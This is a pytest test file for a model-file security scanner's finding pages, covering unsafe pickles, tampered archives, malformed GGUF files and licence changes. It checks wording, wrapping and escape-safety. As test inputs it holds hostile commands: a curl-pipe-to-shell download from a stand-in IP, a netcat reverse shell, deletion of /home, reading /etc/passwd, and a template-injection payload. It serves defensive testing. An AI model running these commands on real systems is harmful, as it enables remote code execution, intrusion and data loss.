"""A finding's page: what somebody who never saw such a file reads of it, at any width, and what no scanned string can do."""

from __future__ import annotations

import os
from dataclasses import replace

import generated
import pytest
import samples
from hypothesis import given, settings
from hypothesis import strategies as st

from scanner.model.codec import report_from_json
from scanner.model.fact import EXCERPT
from scanner.model.finding import Finding
from scanner.model.obligation import Obligation
from scanner.model.place import Place
from scanner.model.report import Report
from scanner.model.verdict import Reason, Verdict
from scanner.reports.console_text import Line, columns, plain
from scanner.reports.pages.duties import hanging_on
from scanner.reports.pages.explained import rule_lines
from scanner.reports.pages.finding import NARROW, evidence_lines

HERE = os.path.dirname(__file__)
STYLES = {"", "deny", "review", "ok", "incomplete", "path", "dim", "heading", "code", "mark", "added", "removed", "key"}


def kinds() -> Report:
    """Findings of many kinds, one of each, as a scan of the attacks and examples of this project told them."""
    with open(os.path.join(HERE, "saved", "kinds.json"), "rb") as file:
        return report_from_json(file.read())


KINDS = kinds()
TARGET = KINDS.targets[0]
RULES = [finding.rule for finding in TARGET.findings]


def page(finding: Finding, width: int = 80, verdict: Verdict | None = None) -> list[Line]:
    found = verdict or next(item for item in TARGET.verdicts if item.subject == finding.fingerprint)
    rule = next((rule for rule in KINDS.rules if rule.id == finding.rule), None)
    return evidence_lines(finding, found, width, rule, TARGET.obligations)


def told(finding: Finding, width: int = 80) -> str:
    return "\n".join(plain(line) for line in page(finding, width))


def of(rule: str) -> Finding:
    return next(finding for finding in TARGET.findings if finding.rule == rule)


def call(callable_: str, arguments: str, **more: object) -> Finding:
    values = {"callable": callable_, "use": "call", "arguments": arguments, "other_arguments": (), "resolved": True}
    return replace(of("pickle-unsafe-callable"), attributes=tuple({**values, **more}.items()), excerpt=())


@pytest.mark.parametrize("rule", RULES)
def test_the_page_is_as_the_snapshot(rule: str) -> None:
    """Set WEIGHBRIDGE_UPDATE_SNAPSHOTS=1 to write them anew, and read the difference before it is committed."""
    text = told(of(rule)) + "\n"
    path = os.path.join(HERE, "snapshots", "evidence", f"{rule}.txt")
    if os.environ.get("WEIGHBRIDGE_UPDATE_SNAPSHOTS") == "1":
        with open(path, "w", encoding="utf-8", newline="\n") as file:
            file.write(text)
    with open(path, encoding="utf-8", newline="") as file:
        assert text == file.read().replace("\r\n", "\n")


@pytest.mark.parametrize("width", [40, 41, 57, 80, 120, 200])
def test_no_line_is_wider_than_the_page(width: int) -> None:
    for finding in TARGET.findings:
        assert all(columns(plain(line)) <= width for line in page(finding, width)), finding.rule
        assert {style for line in page(finding, width) for style, _ in line} <= STYLES


def test_a_narrower_page_is_made_for_forty_columns() -> None:
    assert page(of("zip-tampered"), 10) == page(of("zip-tampered"), NARROW)


def test_a_shell_command_is_told_in_plain_words_with_its_command() -> None:
    text = told(call("posix.system", r"'curl -s http://203.0.113.7/x.sh | sh'"))
    assert "A pickle is a small program that Python runs while it loads the file." in text
    assert "Loading it would run this command in a shell, with the rights of whoever loads" in text
    assert "\n      curl -s http://203.0.113.7/x.sh | sh\n" in text
    assert "It fetches a program from the network and runs it at once." in text


def test_the_command_is_in_the_first_lines_of_the_page() -> None:
    """A page below the list has ten lines of a terminal of 80 by 24: the answer is among them."""
    lines = told(call("posix.system", "'true --now'")).split("\n")
    assert "      true --now" in lines[:10]
    assert "call posix.system, which is os.system." in " ".join(told(call("posix.system", "'true --now'"), 120).split())


def test_what_is_marked_is_on_the_first_screen() -> None:
    """A page alone on a terminal of 80 by 24 has twenty lines; words that are the rule's, not the file's, can wait."""
    for rule in ("loaded-code-unsafe", "keras-code", "zip-tampered", "shell-download"):
        first = page(of(rule), 79)[:20]
        assert any(style == "mark" for line in first for style, _ in line), rule
    text = told(of("loaded-code-unsafe"))
    assert (
        text.index("Where") < text.index("Evidence") < text.index("What it would do") < text.index("Why it is denied")
    )


@pytest.mark.parametrize(
    ("name", "arguments", "words"),
    [
        ("builtins.exec", r"'import os\nos.system(\"id\")'", "run this Python code"),
        ("subprocess.Popen", "['nc', '-e', '/bin/sh', '203.0.113.7', '4444']", "start another program"),
        ("tempfile._os.system", "'id'", "run this command in a shell"),
        ("shutil.rmtree", "'/home'", "delete files"),
        ("webbrowser.open", "'http://x.example'", "open an address in a web browser"),
        ("importlib.import_module", "'evil'", "import the Python module of this name"),
        ("urllib.request.urlopen", "'http://x.example'", "talk to another machine over the network"),
        ("builtins.open", "'/etc/passwd'", "open a file on the machine"),
        ("pip.main", "['install', 'evil']", "install software with pip"),
        ("ctypes.CDLL", "'./x.so'", "load a native library"),
        ("types.CodeType", "0, 0", "build a new Python function from raw code"),
        ("marshal.loads", r"b'\xe3'", "load a second program"),
    ],
)
def test_what_a_call_would_do_is_said_without_jargon(name: str, arguments: str, words: str) -> None:
    assert words in " ".join(told(call(name, arguments), 120).split())


def test_code_is_shown_on_lines_of_its_own() -> None:
    text = told(call("builtins.exec", r"'import os\nfor x in y:\n    os.remove(x)'"))
    assert "\n      import os\n      for x in y:\n          os.remove(x)\n" in text


def test_a_call_without_known_words_says_what_the_list_says() -> None:
    finding = replace(
        call("venv.create", "'x'"), message="Loading this pickle calls venv.create('x'), which makes environments"
    )
    assert "That call makes environments." in told(finding)


def test_a_computed_name_is_said_to_be_unknowable() -> None:
    assert "nobody who reads the file can say for sure what it does" in " ".join(
        told(of("pickle-unresolved-call"), 120).split()
    )


def test_severity_confidence_and_outcome_are_three_things() -> None:
    text = told(of("pickle-unsafe-callable"))
    assert "outcome deny   severity critical   confidence very-high" in text
    assert "outcome deny   severity critical\nconfidence very-high" in told(of("pickle-unsafe-callable"), 40)


def test_a_decision_of_people_is_named() -> None:
    finding = of("zip-tampered")
    verdict = Verdict(finding.fingerprint, "allow", (Reason("waived", ".weighbridge/waivers.yaml:3"),), by="waiver")
    text = "\n".join(plain(line) for line in page(finding, 80, verdict))
    assert "outcome allow   severity high   confidence high\nby a waiver" in text
    assert "Why it is allowed\n  waived (.weighbridge/waivers.yaml:3)" in text


def test_the_line_that_matters_is_marked() -> None:
    for finding in TARGET.findings:
        rows = [row for row in finding.excerpt if row.startswith(">")]
        marked = [line for line in page(finding, 120) if any(style == "mark" for style, _ in line)]
        if rows and "license" not in finding.tags:
            assert marked, finding.rule


def test_words_that_a_licence_gained_or_lost_have_their_own_styles() -> None:
    lines = page(of("license-text-changed"), 100)
    added = [text for line in lines for style, text in line if style == "added"]
    removed = [text for line in lines for style, text in line if style == "removed"]
    assert any("You may never sell it." in text for text in added)
    assert any("missing" in text for text in removed)


def test_what_hangs_on_the_licence_is_listed() -> None:
    text = told(of("license-looser-than-base"))
    assert "What the licence asks\n  by the Llama 3.1 Community License" in text
    assert "\n  missing  ship the licence's text [1.b.i]" in text
    assert "What the licence asks" not in told(of("zip-tampered"))


def test_what_other_models_have_to_do_under_the_same_licence_is_not_listed() -> None:
    finding = replace(of("license-text-changed"), attributes=(("license", "llama3.1"),), place=Place("mine/LICENSE"))
    own = Obligation("llama3.1", "display", "1.b.i", "It is shown.", "missing", "it is not", "mine", strings=("Built",))
    others = replace(own, repo="theirs", strings=("Other",)), replace(own, repo="", strings=("Root",))
    assert hanging_on(finding, (*others, own)) == [own]
    assert hanging_on(replace(finding, place=Place("new/LICENSE")), (others[0], own)) == []


def test_hex_has_as_many_columns_as_the_page() -> None:
    wide = [plain(line) for line in page(of("gguf-malformed"), 100)]
    narrow = [plain(line) for line in page(of("gguf-malformed"), 40)]
    assert any("6c 6c 6d" in line or "00 00 00 00 00 00 00 00 00 00 00 00" in line for line in wide)
    assert all(len(line) <= 40 for line in narrow)


def test_evidence_in_the_report_is_bounded_and_never_missing_here() -> None:
    for finding in TARGET.findings:
        assert finding.excerpt, finding.rule
        assert sum(len(row.encode()) for row in finding.excerpt) <= EXCERPT


HOSTILE = samples.ESCAPES + samples.MARKUP


def test_hostile_strings_put_nothing_on_the_screen_but_themselves() -> None:
    finding = Finding(
        rule=HOSTILE,
        place=Place(HOSTILE, HOSTILE, offset=3),
        message=HOSTILE * 50,
        severity="high",
        confidence="high",
        fingerprint=HOSTILE,
        tags=("security", "pickle", "license", HOSTILE),
        attributes=(
            ("callable", HOSTILE),
            ("use", "call"),
            ("arguments", repr(HOSTILE)),
            ("other_arguments", (HOSTILE,)),
        ),
        related=(Place(HOSTILE, line=4),) * 30,
        excerpt=(
            HOSTILE,
            f"> {HOSTILE}",
            f">     1  {HOSTILE}",
            ">  @1  {+" + HOSTILE + "+}",
            "> 1  zz |",
            "界" * 2000,
        ),
    )
    verdict = Verdict(HOSTILE, "deny", (Reason(HOSTILE, HOSTILE),) * 40, missing=(HOSTILE,))
    rule = replace(samples.PICKLE_RULE, id=HOSTILE, title=HOSTILE, why=HOSTILE, fix=HOSTILE, references=(HOSTILE,))
    for width in (40, 63, 120):
        for line in [*evidence_lines(finding, verdict, width, rule), *rule_lines(rule, width)]:
            text = plain(line)
            assert text.isprintable() and columns(text) <= width
            assert "\u202e" not in text and "\u200b" not in text and "\x1b" not in text
            assert not text.lstrip().startswith("::") and "##[" not in text
        assert len(evidence_lines(finding, verdict, width, rule)) < 900


def test_four_kilobytes_of_wide_characters_wrap() -> None:
    finding = replace(
        of("loaded-code-unsafe"), excerpt=(f">     1  {'界' * 600}", *[f"  {n:>5}  界é{'界' * 90}" for n in range(8)])
    )
    for width in (40, 41, 80):
        lines = page(finding, width)
        assert all(columns(plain(line)) <= width for line in lines)
        assert sum(plain(line).count("界") for line in lines) >= 600 + 8 * 90 - 60


@settings(max_examples=30)
@given(generated.reports(), st.integers(20, 130))
def test_any_report_has_pages(report: Report, width: int) -> None:
    for target in report.targets:
        verdicts = {item.subject: item for item in target.verdicts}
        for finding in target.findings:
            verdict = verdicts.get(finding.fingerprint, Verdict(finding.fingerprint, "review"))
            for line in evidence_lines(finding, verdict, width, None, target.obligations):
                assert plain(line).isprintable() and columns(plain(line)) <= max(width, NARROW)


def test_where_it_was_seen_again_is_told() -> None:
    def seen(count: int, *related: Place) -> str:
        one = call("posix.system", "'true'")
        lines = told(replace(one, place=Place("a.jinja", line=2), count=count, related=related), 120).splitlines()
        return next((line for line in lines if line.startswith("seen")), "").partition("seen")[2].strip()

    assert seen(1) == ""
    assert seen(2) == "2 times: first there"
    assert seen(2, Place("a.jinja", line=9)) == "2 times: first there, then at line 9"
    assert seen(3, Place("b.jinja", line=9)) == "3 times: first there, and in other places below"
    many = tuple(Place("a.jinja", line=line) for line in range(3, 30))
    assert seen(1000, *many) == "1,000 times: first there, then at line 3, line 4, line 5, line 6 and 995 more"


def test_a_line_of_a_page_ends_behind_a_word_or_the_part_of_a_name() -> None:
    one = replace(
        call("posix.system", "'true'"),
        excerpt=(">     @749  {{ cycler.__init__.__globals__.os.popen('curl x | sh') }}",),
    )
    assert "popen('curl" in told(one, 60)
